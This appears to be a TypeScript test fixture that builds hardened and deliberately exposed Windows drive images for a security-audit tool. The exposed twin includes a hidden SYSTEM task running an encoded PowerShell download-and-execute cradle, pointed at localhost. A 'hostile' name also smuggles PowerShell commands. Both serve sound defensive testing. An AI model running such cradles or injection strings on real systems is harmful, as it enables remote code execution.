// Builds the Windows system drives of the prevention-audit tests (issue 22, source §3): SYSTEM,
// SOFTWARE and SAM hives written by the test regf writer, task files as the Task Scheduler writes
// them. The hardened twin passes every Windows check; the exposed twin has the firewall off, 445
// allowed, no outbound SMB block, LanmanServer automatic, SMBv1 on, Defender off by policy with
// Fonts and Temp excluded, signatures 200 days old, an autologon password and a hidden SYSTEM task
// running encoded PowerShell. `hostile` adds a share and a task whose names carry quotes, `$()`,
// backticks and a newline.
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { REG } from '../../src/target/windows/registry/index.js';
import { writeHive, type TreeKey, type TreeValue } from '../../src/target/windows/registry/writer.js';

export interface WindowsAuditVolumeOptions {
  exposed: boolean;
  hostile?: boolean;
}

/** The volume's clock: its last shutdown. */
export const SHUTDOWN = '2026-11-20T10:00:00.000Z';
/** The exposed twin's signatures: 200 days before the shutdown. */
export const OLD_SIGNATURES = '2026-05-04T10:00:00.000Z';
export const FRESH_SIGNATURES = '2026-11-19T08:00:00.000Z';
export const LAST_PATCH = '2026-11-12T03:00:00.000Z';
/** The autologon password the exposed twin stores: must never appear in any output. */
export const AUTOLOGON_PASSWORD = 'Summer2026!NeverPrintMe';
export const HIDDEN_TASK = '\\SystemHealthCheck';
export const ALLOW_RULE_ID = '{5B7E2C1A-0D3F-4E6A-9B8C-7D6E5F4A3B2C}';
/** A name an attacker chose: every PowerShell metacharacter and a newline. */
export const HOSTILE_NAME = 'Q\'; Write-Host PWNED $(Start-Process calc) `whoami` "x"\nPWNED2';

/** What the exposed twin fails, and nothing else. */
export const EXPOSED_FAILS = [
  'windows-firewall-profiles',
  'windows-smb-ports-blocked',
  'windows-smb-outbound-blocked',
  'windows-sharing-services-disabled',
  'windows-smb1-disabled',
  'windows-defender-enabled',
  'windows-defender-exclusions',
  'windows-defender-signatures',
  'windows-autologon-password',
  'windows-scheduled-tasks',
].sort();

type Value = [string, number, Buffer];
const sz = (name: string, s: string): Value => [name, REG.SZ, Buffer.from(`${s}\0`, 'utf16le')];
const multi = (name: string, xs: string[]): Value => [
  name,
  REG.MULTI_SZ,
  Buffer.from(`${xs.map((x) => `${x}\0`).join('')}\0`, 'utf16le'),
];
const dword = (name: string, n: number): Value => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return [name, REG.DWORD, b];
};
const filetime = (name: string, iso: string): Value => {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE((BigInt(Date.parse(iso)) + 11644473600000n) * 10000n);
  return [name, REG.BINARY, b];
};
function filetimeParts(iso: string): [number, number] {
  const ft = (BigInt(Date.parse(iso)) + 11644473600000n) * 10000n;
  return [Number(ft >> 32n), Number(ft & 0xffffffffn)];
}

/** A key tree from `path → values` (parents made as needed). */
function tree(rootName: string, keys: Array<[string, Value[]]>): TreeKey {
  const root: TreeKey = { name: rootName, subkeys: [] };
  for (const [p, values] of keys) {
    let k = root;
    for (const part of p.split('\\')) {
      k.subkeys ??= [];
      let next = k.subkeys.find((s) => s.name.toLowerCase() === part.toLowerCase());
      if (!next) {
        next = { name: part, subkeys: [] };
        k.subkeys.push(next);
      }
      k = next;
    }
    k.values = [
      ...(k.values ?? []),
      ...values.map(([name, type, data]): TreeValue => ({ name, type, data })),
    ];
  }
  return root;
}

const CS = 'ControlSet001';
const FW = `${CS}\\Services\\SharedAccess\\Parameters\\FirewallPolicy`;

function block(proto: number, dir: 'In' | 'Out' = 'In'): string {
  const p = dir === 'In' ? 'LPort' : 'RPort';
  return `v2.30|Action=Block|Active=TRUE|Dir=${dir}|Protocol=${proto}|${p}=135|${p}=137-139|${p}=445|Name=minehunter: block SMB/RPC ${dir === 'In' ? 'inbound' : 'outbound'} ${proto === 6 ? 'TCP' : 'UDP'}|`;
}

function systemHive(o: WindowsAuditVolumeOptions): Buffer {
  const fwOn = o.exposed ? 0 : 1;
  const rules: Value[] = [
    // Windows' own File and Printer Sharing rule, inactive, and an app's any-port rule: neither counts.
    sz(
      'FPS-SMB-In-TCP',
      'v2.30|Action=Allow|Active=FALSE|Dir=In|Protocol=6|LPort=445|Name=@FirewallAPI.dll,-28502|',
    ),
    sz(
      '{0A1B2C3D-1111-4222-8333-944455566677}',
      'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\\Program Files\\App\\app.exe|Name=App|',
    ),
    // An app allowed out to any remote port: not a rule for SMB.
    sz(
      '{0A1B2C3D-2222-4222-8333-944455566677}',
      'v2.30|Action=Allow|Active=TRUE|Dir=Out|Protocol=6|App=C:\\Program Files\\App\\app.exe|Name=App out|',
    ),
    sz(
      'CoreNet-DHCP-In',
      'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=17|LPort=68|RPort=67|Name=@FirewallAPI.dll,-25301|',
    ),
  ];
  if (o.exposed)
    rules.push(
      sz(ALLOW_RULE_ID, 'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=Open SMB|'),
    );
  else
    rules.push(
      sz('{B10C0001-0000-4000-8000-000000000006}', block(6)),
      sz('{B10C0001-0000-4000-8000-000000000017}', block(17)),
      sz('{B10C0002-0000-4000-8000-000000000006}', block(6, 'Out')),
      sz('{B10C0002-0000-4000-8000-000000000017}', block(17, 'Out')),
    );
  const keys: Array<[string, Value[]]> = [
    ['Select', [dword('Current', 1), dword('Default', 1), dword('LastKnownGood', 1)]],
    [
      `${CS}\\Control\\ComputerName\\ComputerName`,
      [sz('ComputerName', o.exposed ? 'WIN-EXPOSED' : 'WIN-HARDENED')],
    ],
    [`${CS}\\Control\\Windows`, [filetime('ShutdownTime', SHUTDOWN)]],
    [`${CS}\\Control\\Terminal Server`, [dword('fDenyTSConnections', 0)]],
    [`${CS}\\Control\\Terminal Server\\WinStations\\RDP-Tcp`, [dword('UserAuthentication', 1)]],
    [`${FW}\\DomainProfile`, [dword('EnableFirewall', fwOn)]],
    [`${FW}\\StandardProfile`, [dword('EnableFirewall', fwOn)]],
    [`${FW}\\PublicProfile`, [dword('EnableFirewall', fwOn)]],
    [`${FW}\\FirewallRules`, rules],
    [`${CS}\\Services\\LanmanServer`, [dword('Type', 0x20), dword('Start', o.exposed ? 2 : 4)]],
    [
      `${CS}\\Services\\LanmanServer\\Parameters`,
      [dword('SMB1', o.exposed ? 1 : 0), dword('AutoShareWks', 0), dword('AutoShareServer', 0)],
    ],
    [`${CS}\\Services\\WinDefend`, [dword('Type', 0x10), dword('Start', 2)]],
    [`${CS}\\Services\\TermService`, [dword('Type', 0x20), dword('Start', 3)]],
  ];
  if (o.exposed) keys.push([`${CS}\\Services\\mrxsmb10`, [dword('Type', 2), dword('Start', 2)]]);
  if (o.hostile)
    keys.push([
      `${CS}\\Services\\LanmanServer\\Shares`,
      [
        multi(HOSTILE_NAME, [
          'CSCFlags=0',
          'MaxUses=4294967295',
          `Path=C:\\Users\\Public\\${HOSTILE_NAME}`,
          'Type=0',
        ]),
      ],
    ]);
  return writeHive(tree('ROOT', keys));
}

function softwareHive(o: WindowsAuditVolumeOptions): Buffer {
  const [hi, lo] = filetimeParts(LAST_PATCH);
  const keys: Array<[string, Value[]]> = [
    [
      'Microsoft\\Windows NT\\CurrentVersion',
      [
        sz('ProductName', 'Windows 10 Pro'),
        sz('DisplayVersion', '22H2'),
        sz('CurrentBuild', '19045'),
        dword('UBR', 5131),
      ],
    ],
    [
      'Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
      o.exposed
        ? [
            sz('AutoAdminLogon', '1'),
            sz('DefaultUserName', 'alice'),
            sz('DefaultPassword', AUTOLOGON_PASSWORD),
          ]
        : [sz('AutoAdminLogon', '0'), sz('DefaultUserName', 'alice')],
    ],
    [
      'Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\Packages\\Package_for_RollupFix~31bf3856ad364e35~amd64~~19041.5131.1.6',
      [dword('InstallTimeHigh', hi), dword('InstallTimeLow', lo), dword('CurrentState', 0x70)],
    ],
    [
      'Microsoft\\Windows Defender\\Signature Updates',
      [
        sz('AVSignatureVersion', '1.421.1234.0'),
        filetime('SignaturesLastUpdated', o.exposed ? OLD_SIGNATURES : FRESH_SIGNATURES),
      ],
    ],
    [
      'Microsoft\\Windows Defender\\Exclusions\\Paths',
      o.exposed ? [dword('C:\\Windows\\Fonts', 0), dword('C:\\Windows\\Temp', 0)] : [dword('D:\\Builds', 0)],
    ],
  ];
  if (o.exposed) {
    keys.push(['Policies\\Microsoft\\Windows Defender', [dword('DisableAntiSpyware', 1)]]);
    keys.push([
      'Policies\\Microsoft\\Windows Defender\\Real-Time Protection',
      [dword('DisableRealtimeMonitoring', 1)],
    ]);
  }
  return writeHive(tree('ROOT', keys));
}

/** A SAM `F` value (0x50 bytes) with the account-control bits at 0x38; times and counts zero. */
function samF(rid: number, flags: number): Buffer {
  const f = Buffer.alloc(0x50);
  f.writeUInt16LE(2, 0);
  f.writeUInt32LE(rid, 0x30);
  f.writeUInt16LE(flags, 0x38);
  return f;
}

/** Local accounts: Administrator and Guest disabled, alice a normal account with a required password. */
export const SAM_USERS: Array<{ name: string; rid: number; flags: number }> = [
  { name: 'Administrator', rid: 500, flags: 0x0211 },
  { name: 'Guest', rid: 501, flags: 0x0215 },
  { name: 'alice', rid: 1001, flags: 0x0010 },
];

function samHive(): Buffer {
  const users = 'SAM\\Domains\\Account\\Users';
  const keys: Array<[string, Value[]]> = [];
  for (const u of SAM_USERS) {
    const hex = u.rid.toString(16).toUpperCase().padStart(8, '0');
    keys.push([`${users}\\${hex}`, [['F', REG.BINARY, samF(u.rid, u.flags)]]]);
    // The Names key's default value carries the RID in its type field, as Windows writes it.
    keys.push([`${users}\\Names\\${u.name}`, [['', u.rid, Buffer.alloc(0)]]]);
  }
  return writeHive(tree('ROOT', keys));
}

const xmlEscape = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function taskXml(t: {
  uri: string;
  userId: string;
  hidden: boolean;
  command: string;
  args?: string;
}): Buffer {
  const text = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2026-10-01T03:00:00</Date>
    <Author>Microsoft Corporation</Author>
    <URI>${xmlEscape(t.uri)}</URI>
  </RegistrationInfo>
  <Triggers>
    <BootTrigger><Enabled>true</Enabled></BootTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>${t.userId}</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>${t.hidden}</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>${xmlEscape(t.command)}</Command>${t.args ? `\n      <Arguments>${xmlEscape(t.args)}</Arguments>` : ''}
    </Exec>
  </Actions>
</Task>
`.replace(/\n/g, '\r\n');
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

/** `-EncodedCommand` of a download cradle to this host (nothing here runs it). */
const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/m.ps1')",
  'utf16le',
).toString('base64');

async function put(root: string, rel: string, data: Buffer | string): Promise<void> {
  const file = path.join(root, ...rel.split('/'));
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, data);
}

/** Writes the volume under `root` (an empty temp directory). */
export async function buildWindowsAuditVolume(root: string, o: WindowsAuditVolumeOptions): Promise<void> {
  await put(root, 'Windows/System32/config/SYSTEM', systemHive(o));
  await put(root, 'Windows/System32/config/SOFTWARE', softwareHive(o));
  await put(root, 'Windows/System32/config/SAM', samHive());
  await mkdir(path.join(root, 'Users', 'alice'), { recursive: true });
  await put(
    root,
    'Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag',
    taskXml({
      uri: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
      userId: 'S-1-5-18',
      hidden: false,
      command: '%windir%\\system32\\defrag.exe',
      args: '-c -h -o -$',
    }),
  );
  if (o.exposed)
    await put(
      root,
      `Windows/System32/Tasks${HIDDEN_TASK.replace(/\\/g, '/')}`,
      taskXml({
        uri: HIDDEN_TASK,
        userId: 'S-1-5-18',
        hidden: true,
        command: 'powershell.exe',
        args: `-nop -w hidden -enc ${ENCODED}`,
      }),
    );
  if (o.hostile)
    await put(
      root,
      `Windows/System32/Tasks/${HOSTILE_NAME}`,
      taskXml({
        uri: `\\${HOSTILE_NAME}`,
        userId: 'S-1-5-18',
        hidden: true,
        command: 'C:\\ProgramData\\x.exe',
      }),
    );
}
